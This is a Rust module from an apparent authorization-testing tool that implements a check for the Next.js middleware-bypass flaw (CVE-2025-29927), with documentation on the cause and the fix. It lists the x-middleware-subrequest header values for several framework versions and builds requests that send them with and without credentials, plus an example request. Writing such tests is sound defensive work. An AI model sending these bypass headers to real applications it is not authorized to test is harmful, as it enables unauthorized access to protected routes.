//! `header.middleware-subrequest`: a header that claims to be a sub-request of the middleware.

use crate::attack::craft::{with_header, without_credentials};
use crate::attack::{Attack, Attempt, Ground, Scope};

/// A header that claims to be a sub-request of the middleware.
pub(in crate::attack) struct MiddlewareSubrequest;

/// The header.
const NAME: &str = "x-middleware-subrequest";

/// Its values by version of the framework, newest first.
const VALUES: &[(&str, &str)] = &[
    (
        "middleware five times",
        "middleware:middleware:middleware:middleware:middleware",
    ),
    (
        "src/middleware five times",
        "src/middleware:src/middleware:src/middleware:src/middleware:src/middleware",
    ),
    ("middleware", "middleware"),
    ("src/middleware", "src/middleware"),
    ("pages/_middleware", "pages/_middleware"),
];

/// How many of them are tried beside own credentials.
const BESIDE: usize = 2;

const DOC: &str = "\
## What it does
Sends `x-middleware-subrequest` with the values by which Next.js knew its own sub-requests in its various versions: to the
victim's address with the victim's ids and no credentials, and beside the own credentials with foreign ids.

## Why teams fall for it
The framework skips the middleware when the header says that it is already in it, and all authorisation sat in the middleware
(RL-47, CVE-2025-29927): handlers assumed that it had run. Any internal header that turns checks off is of this kind.

## A correct target
Strips it from outside, and asks for rights in the handler, too.

## Example
    GET /services
    Host: victim.example.com
    x-middleware-subrequest: middleware:middleware:middleware:middleware:middleware
";

impl Attack for MiddlewareSubrequest {
    fn id(&self) -> &'static str {
        "header.middleware-subrequest"
    }

    fn title(&self) -> &'static str {
        "a header that claims to be a sub-request of the middleware"
    }

    fn doc(&self) -> &'static str {
        DOC
    }

    fn scope(&self) -> Scope {
        Scope::Middleware
    }

    fn attempts(&self, ground: &Ground<'_>) -> Vec<Attempt> {
        let nobody = ground.as_victim().each(without_credentials);
        let base = ground.base();
        let mut all = Vec::new();
        for (index, (variant, value)) in VALUES.iter().enumerate() {
            if index < ground.afford(VALUES.len()) {
                all.push(
                    nobody
                        .clone()
                        .named(format!("{variant}, no credentials"))
                        .each(|call| with_header(call, NAME, value)),
                );
            }
            if index < BESIDE && ground.has_credentials() {
                all.push(
                    base.clone()
                        .titled(variant)
                        .each(|call| with_header(call, NAME, value)),
                );
            }
        }
        all
    }
}
